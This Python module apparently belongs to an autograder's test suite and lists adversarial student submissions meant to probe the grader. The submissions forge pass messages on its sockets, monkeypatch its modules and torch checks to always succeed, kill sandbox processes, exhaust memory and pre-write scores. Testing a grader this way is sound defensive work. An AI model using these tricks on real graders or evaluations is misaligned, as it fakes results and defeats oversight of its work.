"""Attacks by somebody who has read this autograder's source: its messages, shell and tripwires.

They use what the student's process holds: the sockets on which it reports, the shell that keeps the
outputs, the modules of the autograder itself. Under stock nbgrader they find nothing to attack.
"""

from .frame import HONEST, attack

__all__: list[str] = []

SOCKETS = """
import os, socket, stat, struct
def sockets():
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                yield socket.socket(fileno=os.dup(fd))
        except OSError:
            pass
def tell(*messages, raw=b""):
    from autograder import wire
    for one in sockets():
        one.settimeout(0.2)
        for message in messages:
            try:
                wire.send(one, message)
            except Exception:
                pass
        try:
            one.sendall(raw)
        except OSError:
            pass
"""
ANSWER = "\ndef twice(x):\n    tell_all()\n    return 0 * x\n"

# What a driver that trusts its messages would stumble over; each is sent in a run of its own.
ODD_MESSAGES = {
    "nothing": "None",
    "a number": "2**63",
    "an empty list": "[]",
    "a map": "{'seen': {'test_twice': 100}}",
    "an unknown word": "['points', 'test_twice', 100]",
    "a name that is a list": "['seen', ['test_twice'], b'']",
    "a check that does not exist": "['seen', 'test_other', wire.pack({'seen': ['v', True]})]",
    "an observation that is no frame": "['seen', 'test_twice', wire.pack({'seen': 5})]",
    "an observation that is no bytes": "['seen', 'test_twice', 5]",
    "a cell that does not exist": "['cell', -1, wire.pack([]), 0.0], ['cell', 9**9, b'', -1.0]",
    "outputs that are none": "['cell', 2, wire.pack([5, None, {'output_type': []}]), 'x']",
    "starts without cells": "['start', -5], ['start', 'x'], ['start']",
    "an early end": "['end'], ['done'], ['end']",
    "alarms that are none": "['altered', 5], ['altered', [['a'], {}]], ['altered']",
    "a deep list": "eval('[' * 80 + ']' * 80)",
}


def _odd(sentence: str, message: str) -> None:
    def make(work):
        return (
            SOCKETS
            + f"def tell_all():\n    from autograder import wire\n    tell({message})\n"
            + "try:\n    tell_all()\nexcept ImportError:\n    pass"
            + ANSWER
        )

    make.__name__ = "odd_message_" + sentence.replace(" ", "_")
    make.__module__ = __name__
    attack(f"sends {sentence} on every socket that it finds", fact=28, plain=False)(make)


for _sentence, _message in ODD_MESSAGES.items():
    _odd(_sentence, _message)


@attack("sends bytes that are no message, and heads that promise four gigabytes", fact=28,
        plain=False, flagged=False)  # fmt: skip
def broken_messages(work):
    return (
        SOCKETS
        + "def tell_all():\n    tell(raw=b'\\xff' * 64)\n"
        + "import threading\ntell(raw=b'\\xff\\xff\\xff\\xff' + b'x' * 1000)"
        + ANSWER
    )


@attack("sends msgpack that nests 100,000 deep, and extension types", fact=28, plain=False)
def deep_messages(work):
    return (
        SOCKETS
        + """
def tell_all():
    for data in (b"\\x91" * 100_000, b"\\xc7\\xff\\xff" + b"x" * 255, b"\\xdd\\xff\\xff\\xff\\xff"):
        tell(raw=struct.pack("!I", len(data)) + data)
tell_all()
"""
        + ANSWER
    )


@attack("reports all-true observations for every check, many times", fact=28, most=1)
def forged_observations(work):
    return (
        SOCKETS
        + """
def tell_all():
    try:
        from autograder import checks, wire
    except ImportError:
        return
    x = torch.ones(3, 4)
    for seen in ({"seen": torch.tensor([2.0, 4.0]), "drawn": x}, True, x, (x, [x] * 4, [x] * 4)):
        answer = wire.pack({"seen": checks.encode(seen), "score": 100, "points": 100})
        for name in ("test_twice", "test_Pair", 0, 1, "0", "1"):
            tell(["seen", name, answer])
def twice(x):
    tell_all()
    os._exit(0)
"""
    )


@attack(
    "sends the message by which a test of asserts says that it ended", fact=28, asserts_lose=True
)
def forged_end(work):
    return (
        SOCKETS
        + """
def twice(x):
    try:
        from autograder import wire
    except ImportError:
        os._exit(0)
    answer = wire.pack({"ended": True, "value": "2", "alarms": []})
    tell(["seen", "test_twice", answer], ["end"])
    os._exit(0)
"""
    )


@attack("says again and again that a cell starts, to push the deadline away", fact=20, plain=False)
def pushed_deadline(work):
    return (
        SOCKETS
        + """
import time
from autograder import wire
channels = list(sockets())
while True:
    for one in channels:
        try:
            wire.send(one, ["start", 1])
        except Exception:
            pass
    time.sleep(0.05)
"""
    )


@attack("moves the mark that says how far the checks have come", plain=False)
def moved_mark(work):
    return """
        import gc, mmap, os, sys
        def twice(x):
            frame = sys._getframe()
            while frame:
                for value in list(frame.f_locals.values()):
                    if isinstance(value, mmap.mmap):
                        value[:8] = b"\\xff" * 8
                frame = frame.f_back
            os.kill(os.getppid(), 9)
            os._exit(0)
    """


@attack("patches the real modules of the autograder: its wire, its shell, its tripwire")
def patched_autograder(work):
    return """
        import gc, sys
        true = lambda *a, **k: True
        for name, module in list(sys.modules.items()):
            if name.startswith("autograder"):
                for key, value in list(vars(module).items()):
                    if callable(value) and not key.startswith("__"):
                        try:
                            setattr(module, key, lambda *a, **k: [])
                        except Exception:
                            pass
        def twice(x):
            return 0 * x
    """


@attack("keeps the tripwire's memory from noticing: it writes its own functions there", most=0)
def patched_memory(work):
    return """
        import sys
        tripwire = sys.modules.get("autograder.tripwire")
        torch.equal = torch.allclose = lambda *a, **k: True
        torch.testing.assert_close = lambda *a, **k: None
        if tripwire:
            tripwire.remember()
        def twice(x):
            return 0 * x
    """


def _outputs(name: str, sentence: str, items: str) -> None:
    def make(work):
        return (
            "shown = getattr(get_ipython(), 'outputs', None)\nif shown is not None:\n"
            f"    shown.items += {items}\n" + HONEST["twice"]
        )

    make.__name__ = name
    make.__module__ = __name__
    attack(f"puts {sentence} among the outputs of its cell", keeps="twice Pair", least=0)(make)


_outputs("outputs_of_no_kind", "things of no known kind", "[5, None, [], {}, {'output_type': 'x'}]")
_outputs(
    "outputs_without_parts",
    "outputs that lack what they need",
    "[{'output_type': 'stream'}, {'output_type': 'error'}, {'output_type': 'display_data'}]",
)
_outputs(
    "outputs_of_wrong_types",
    "outputs whose parts have the wrong type",
    "[{'output_type': 'stream', 'name': 5, 'text': {'a': 1}}, {'output_type': 'display_data',"
    " 'data': [1], 'metadata': 'x'}, {'output_type': 'execute_result', 'data': {'text/plain': 5,"
    " 'text/html': b'x', 'x': None}, 'metadata': {}, 'execution_count': 'x'},"
    " {'output_type': 'error', 'ename': [], 'evalue': 5, 'traceback': 'x'}]",
)
_outputs(
    "outputs_too_large",
    "40 MB of text past the shell's limit",
    "[{'output_type': 'stream', 'name': 'stdout', 'text': 'x' * 40_000_000}]",
)
_outputs(
    "too_many_outputs",
    "300,000 outputs past the shell's limit",
    "[{'output_type': 'stream', 'name': 'stdout', 'text': 'x'}] * 300_000",
)
_outputs(
    "outputs_too_deep",
    "metadata that nest 500 deep",
    "[{'output_type': 'display_data', 'data': {}, 'metadata':"
    " eval('{0:' * 500 + '{}' + '}' * 500)}]",
)


@attack("patches nn.Module only while it is observed, so that lists look registered", most=1)
def late_patch(work):
    work.answer(
        "Pair",
        """
        class Pair(nn.Module):
            def __init__(self, left, right):
                super().__init__()
                self.kept = [left, right]
                both = self.kept
                nn.Module.parameters = lambda self, recurse=True: iter(
                    [p for block in both for p in (block.weight, block.bias)])
                nn.Module.state_dict = lambda self, *a, **k: {
                    f"{i}.{n}": getattr(block, n) for i, block in enumerate(both)
                    for n in ("weight", "bias")}
            def forward(self, x):
                return self.kept[0](x) + self.kept[1](x)
        """,
    )


@attack("patches nn.Module beforehand, so that lists look registered everywhere", most=1)
def early_patch(work):
    work.answer(
        "Pair",
        """
        class Pair(nn.Module):
            def __init__(self, left, right):
                super().__init__()
                self.kept = [left, right]
            def forward(self, x):
                return self.kept[0](x) + self.kept[1](x)
        def named(self, prefix="", recurse=True, remove_duplicate=True):
            for name, value in vars(self).items():
                for number, block in enumerate(value if isinstance(value, list) else []):
                    for part in ("weight", "bias"):
                        yield f"{name}.{number}.{part}", getattr(block, part)
            yield from self._parameters.items()
        nn.Module.named_parameters = named
        nn.Module.parameters = lambda self, recurse=True: (p for _, p in named(self))
        nn.Module.state_dict = lambda self, *a, **k: dict(named(self))
        """,
    )


@attack("leaves a child that waits for the tests and answers first", plain=False)
def waiting_child(work):
    return (
        SOCKETS
        + """
import time
if os.fork() == 0:
    channels = list(sockets())
    for _ in range(80):
        for one in channels:
            one.settimeout(0.05)
            try:
                data = one.recv(1 << 20)
                one.sendall(data)
            except OSError:
                pass
    os._exit(0)
def twice(x):
    return 0 * x
"""
    )


@attack("kills every process of its own sandbox when the tests have arrived", plain=False)
def killed_sandbox(work):
    return """
        import os, signal
        def twice(x):
            if os.readlink("/proc/self/ns/pid") != PIDS:
                for pid in (p for p in os.listdir("/proc") if p.isdigit()):
                    if int(pid) != os.getpid():
                        try:
                            os.kill(int(pid), signal.SIGKILL)
                        except OSError:
                            pass
            return 0 * x
    """


@attack("returns values that the judge would compute with for ever", keeps="Pair")
def heavy_values(work):
    return """
        def twice(x):
            return torch.zeros(0, 2**40) if x.dim() == 1 else torch.zeros(2**24, dtype=torch.bool)
    """


@attack("returns bytes of a bool that are neither 0 nor 1", keeps="Pair")
def odd_bools(work):
    return """
        import ctypes
        def twice(x):
            odd = torch.zeros(x.shape, dtype=torch.bool)
            ctypes.memset(odd.data_ptr(), 0xFF, odd.numel())
            return odd
    """


@attack("sends observations and outputs that are small packed and gigabytes unpacked", plain=False)
def swollen_messages(work):
    return (
        SOCKETS
        + """
def swollen(count):
    return b"\\xdd" + struct.pack("!I", count) + b"\\x90" * count
try:
    from autograder import wire
    tell(["cell", 2, swollen(25_000_000), 0.0])
except ImportError:
    pass
def twice(x):
    tell(["seen", "test_twice", swollen(25_000_000)])
    os._exit(0)
"""
    )


@attack("honest code, and a hand-in that says in advance what it will get", keeps="twice Pair")
def wished_score(work):
    work.notebook.metadata["autograder"] = {"score": 100, "flags": [], "status": "graded"}
    work.beside("results.jsonl", '{"student": "zoe", "score": 0}\n')
    work.beside(".autograder.json", '{"score": 100}')


@attack("uses the memory that no address space counts: files in memory", fact=22, plain=False)
def memory_in_files(work):
    return """
        import os
        held, total, block = [], 0, b"x" * 1_000_000
        try:
            for _ in range(60):
                held.append(os.memfd_create("held"))
                for _ in range(60):
                    total += os.write(held[-1], block)
        except (OSError, AttributeError):
            pass
        if total > 2_000_000_000:
            print(WON)
        def twice(x):
            return x
    """


@attack("uses the memory that no address space counts: segments that it lets go", fact=22,
        plain=False)  # fmt: skip
def memory_in_segments(work):
    return """
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        libc.shmat.restype = ctypes.c_void_p
        libc.shmdt.argtypes = [ctypes.c_void_p]
        size, total = 100_000_000, 0
        for _ in range(30):
            segment = libc.shmget(0, size, 0o1600)
            if segment < 0:
                break
            place = libc.shmat(segment, None, 0)
            if place in (None, ctypes.c_void_p(-1).value):
                break
            ctypes.memset(place, 1, size)
            libc.shmdt(place)
            total += size
        if total > 2_000_000_000:
            print(WON)
        def twice(x):
            return x
    """
